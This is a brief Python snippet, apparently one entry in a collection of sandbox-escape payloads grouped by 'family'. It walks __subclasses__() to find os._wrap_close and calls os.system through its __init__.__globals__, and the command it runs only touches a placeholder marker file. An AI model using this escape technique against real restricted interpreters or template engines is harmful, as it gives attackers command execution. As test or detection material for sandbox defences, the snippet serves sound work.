# family: object-graph walk via __subclasses__
# goal: find os._wrap_close and use its globals
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("touch __MARKER_PATH__")
